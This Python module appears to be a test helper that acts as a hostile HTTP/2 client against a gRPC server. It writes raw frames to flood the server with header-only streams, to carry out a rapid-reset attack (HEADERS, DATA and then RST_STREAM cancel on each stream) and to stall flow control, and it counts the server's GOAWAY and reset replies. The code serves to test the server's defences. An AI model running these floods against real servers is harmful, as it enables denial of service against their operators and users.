"""A hostile HTTP/2 client: raw frames over a socket, as an attacker sends them.

The connection is opened with `h2` (preface and SETTINGS); floods of streams are
then written as ready-made frames (`hyperframe`, `hpack`), since h2's bookkeeping
of 60,000 open streams would take the test minutes. A thread reads what the server
sends, so the server is never held up writing to us, and counts its GOAWAYs and
RST_STREAMs by error code.
"""

from __future__ import annotations

import socket
import struct
import threading
from collections import Counter

import h2.config
import h2.connection
import hpack
from hyperframe.frame import DataFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame

CANCEL = 0x8


def grpc_message(body: bytes) -> bytes:
    """One gRPC length-prefixed message."""
    return struct.pack(">?I", False, len(body)) + body


class RawH2:
    def __init__(self, address: str, *, read: bool = True) -> None:
        host, port = address.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.authority = address.encode()
        self.h2 = conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        self.sock.sendall(conn.data_to_send())
        self.next_stream = 1
        self.goaways: Counter[int] = Counter()
        self.resets: Counter[int] = Counter()
        self.closed = threading.Event()
        self._reader = threading.Thread(target=self._read, daemon=True) if read else None
        if self._reader is not None:
            self._reader.start()

    def header_block(self, path: str, token: str = "") -> bytes:
        headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()),
                   (b":authority", self.authority), (b"content-type", b"application/grpc"),
                   (b"te", b"trailers")]
        if token:
            headers.append((b"authorization", f"Bearer {token}".encode()))
        return hpack.Encoder().encode(headers)

    def _stream_ids(self, count: int) -> range:
        first = self.next_stream
        self.next_stream += 2 * count
        return range(first, first + 2 * count, 2)

    def send(self, frames: list[bytes]) -> bool:
        """Write `frames`; False once the server has closed the connection."""
        try:
            self.sock.sendall(b"".join(frames))
            return True
        except OSError:
            self.closed.set()
            return False

    def headers_only(self, path: str, count: int, token: str = "", batch: int = 2000) -> int:
        """`count` streams of HEADERS with END_STREAM and no message; returns how many were written."""
        block = self.header_block(path, token)
        sent = 0
        ids = list(self._stream_ids(count))
        for start in range(0, count, batch):
            frames = [HeadersFrame(i, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize()
                      for i in ids[start:start + batch]]
            if not self.send(frames):
                break
            sent += len(frames)
        return sent

    def rapid_reset(self, path: str, count: int, body: bytes, batch: int = 1000) -> int:
        """`count` streams each of HEADERS, a whole request and RST_STREAM(CANCEL) at once."""
        block = self.header_block(path)
        message = grpc_message(body)
        sent = 0
        ids = list(self._stream_ids(count))
        for start in range(0, count, batch):
            frames = []
            for i in ids[start:start + batch]:
                frames.append(HeadersFrame(i, data=block, flags=["END_HEADERS"]).serialize())
                frames.append(DataFrame(i, data=message, flags=["END_STREAM"]).serialize())
                frames.append(RstStreamFrame(i, error_code=CANCEL).serialize())
            if not self.send(frames):
                break
            sent += len(frames) // 3
        return sent

    def stalled_call(self, path: str, body: bytes) -> None:
        """Send one call's request (with h2, which keeps to the server's flow control), then
        read nothing more and never open the flow-control window for the reply: a caller
        that has stopped reading. Only on a connection made with `read=False`."""
        conn = self.h2
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, [(":method", "POST"), (":scheme", "http"), (":path", path),
                                   (":authority", self.authority.decode()), ("content-type", "application/grpc"),
                                   ("te", "trailers")])
        remaining = memoryview(grpc_message(body))
        while remaining:
            room = min(conn.local_flow_control_window(stream), conn.max_outbound_frame_size, len(remaining))
            if room:
                conn.send_data(stream, remaining[:room].tobytes())
                remaining = remaining[room:]
            else:
                conn.receive_data(self.sock.recv(1 << 16))  # the server's WINDOW_UPDATEs
            self.sock.sendall(conn.data_to_send())
        conn.end_stream(stream)
        self.sock.sendall(conn.data_to_send())

    def _read(self) -> None:
        pending = bytearray()
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                pending += data
                while len(pending) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(bytes(pending[:9])))
                    if len(pending) < 9 + length:
                        break
                    if isinstance(frame, (GoAwayFrame, RstStreamFrame)):
                        frame.parse_body(memoryview(bytes(pending[9:9 + length])))
                        (self.goaways if isinstance(frame, GoAwayFrame) else self.resets)[frame.error_code] += 1
                    del pending[:9 + length]
        except OSError:
            pass
        self.closed.set()

    def close(self) -> None:
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        if self._reader is not None:
            self._reader.join(10)
